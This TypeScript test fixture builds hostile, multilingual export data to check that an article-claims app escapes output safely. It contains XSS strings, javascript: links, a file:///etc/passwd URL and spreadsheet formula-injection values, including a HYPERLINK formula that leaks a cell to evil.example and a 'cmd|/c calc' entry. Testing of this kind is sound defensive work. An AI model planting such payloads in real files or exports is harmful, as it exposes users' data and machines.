// An export set full of hostile and multilingual content for the export format tests: HTML and script tags,
// Markdown and CSV specials, spreadsheet formulas, unsafe links, and English, Russian, Kazakh and Chinese text.
import type { ArticleDocument, Claim, ClaimChange } from '../../shared/model';
import { setNote, setStatus, setText, signChanges } from '../claims/claim-edits';
import { makeDocument } from '../test-fixtures';
import { buildSampleDocument, makeArticle, makeSource } from '../report/test-fixtures';
import type { ExportSet } from './export-set';

export const SCRIPT = '<script>alert(1)</script>';
export const HOSTILE_TITLE = `Kazakhstan & China ${SCRIPT} *trade* _claims_ [checked](javascript:alert(1)) #1 | \`code\` {x} <b>+</b>!`;
export const HOSTILE_NOTE =
  'Confirmed <img src=x onerror=alert(1)> "quoted", with a comma\nsecond line\r\nthird | pipe\\ & &amp; ~~struck~~';
export const BLOCK_NOTE = '# not a heading\n- not a list\n1. not numbered\n> not a quote\n```\ncode\n```\n---';
export const FORMULA_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1 555 0100',
  '-2% по данным таможни',
  '@SUM(A1:A9)',
  '\tcmd|/c calc',
  '\r=1+1',
] as const;
export const EXPORT_AUTHOR = 'Айгерім <b>Сейітқызы</b>';

const history = (...changes: ClaimChange[]): ClaimChange[] => [
  { kind: 'created', at: '2026-11-20T10:00:00.000Z', origin: 'detected' },
  ...changes,
];

/** The report's sample article, made hostile: every status, every language, every kind of special. */
function buildHostileDocument(): ArticleDocument {
  const doc = buildSampleDocument();
  doc.article.title = HOSTILE_TITLE;
  doc.article.tags = ['economy', 'Қазақстан', '中国 | "trade"'];
  doc.article.source = 'Astana Times, "Business" <i>desk</i>';
  const edits: Partial<Claim>[] = [
    {
      note: HOSTILE_NOTE,
      history: history(
        { kind: 'status', at: '2026-11-20T11:00:00.000Z', from: 'unverified', to: 'verified', by: EXPORT_AUTHOR },
        { kind: 'note', at: '2026-11-21T08:15:00.000Z', from: '', to: HOSTILE_NOTE, by: 'Li Wei' },
      ),
    },
    {
      text: FORMULA_TEXTS[0],
      speaker: '@finance_minister',
      history: history({ kind: 'status', at: '2026-11-20T23:59:00.000Z', from: 'unverified', to: 'misleading' }),
    },
    { note: FORMULA_TEXTS[1], speaker: 'Министр <script>', sources: [makeSource({ id: 'source-2', title: '', url: 'https://example.org/a,b' })] },
    { text: FORMULA_TEXTS[2], note: BLOCK_NOTE },
    { note: FORMULA_TEXTS[4], speaker: FORMULA_TEXTS[3] },
    {
      text: FORMULA_TEXTS[5],
      sources: [
        makeSource({ id: 'source-3', title: `](javascript:alert(1)) ${SCRIPT}`, url: 'javascript:alert(1)' }),
        makeSource({ id: 'source-4', title: '海关总署 | 统计', url: 'https://example.cn/a_b(1)|x?q=1&lt;2#f' }),
        makeSource({ id: 'source-5', title: 'No link at all', url: null }),
      ],
      history: history({ kind: 'status', at: '2026-11-22T07:00:00.000Z', from: 'unverified', to: 'false', by: 'Li Wei' }),
    },
  ];
  doc.claims = doc.claims.map((claim, index) => ({ ...claim, ...edits[index] }));
  return doc;
}

/** The core fixture retitled in Russian, its claims reworded and decided through the edit functions: no address, no author, no date. */
function buildRussianDocument(): ArticleDocument {
  const doc = makeDocument();
  doc.article = { ...doc.article, title: 'Товарооборот вырос на 6,8% — «таможня»', language: 'ru', author: null, publishedAt: null };
  const [trade, hope] = doc.claims;
  if (!trade || !hope) throw new Error('The core fixture has two claims.');
  const later = new Date('2026-11-21T12:00:00.000Z');
  setText(trade, 'Товарооборот Казахстана и Китая вырос на 6,8% до $43,82 млрд.', later);
  setStatus(trade, 'verified', later);
  setNote(trade, 'Таможня: «43,82 млрд» — верно.', new Date('2026-11-21T12:05:00.000Z'));
  signChanges(trade.history.slice(1), 'Иван');
  setStatus(hope, 'dismissed', later);
  return doc;
}

/** A Chinese article with no claims in the export. */
function buildEmptyDocument(): ArticleDocument {
  const body = '中国是哈萨克斯坦最大的贸易伙伴。';
  const article = makeArticle({ id: 'article-3', body, title: '贸易 <script>', language: 'zh', url: 'file:///etc/passwd' });
  return { article, claims: [], unplacedClaims: [] };
}

export function buildHostileExportSet(): ExportSet {
  return {
    title: `The library ${SCRIPT}`,
    filter: { statuses: ['verified', 'false'], from: '2024-01-01', tags: ['economy'] },
    author: EXPORT_AUTHOR,
    generatedAt: new Date('2026-11-21T09:05:00Z'),
    appVersion: '0.1.0',
    docs: [buildHostileDocument(), buildRussianDocument(), buildEmptyDocument()],
  };
}

/** A plain set: the report's sample article, no specials in any cell. */
export function buildPlainExportSet(): ExportSet {
  const doc = buildSampleDocument();
  return { title: doc.article.title, filter: {}, author: '', generatedAt: new Date('2026-11-21T09:05:00Z'), appVersion: '0.1.0', docs: [doc] };
}

/** Every claim of a set, in the order the set holds them. */
export function listClaims(set: ExportSet): Claim[] {
  return set.docs.flatMap((doc) => doc.claims);
}
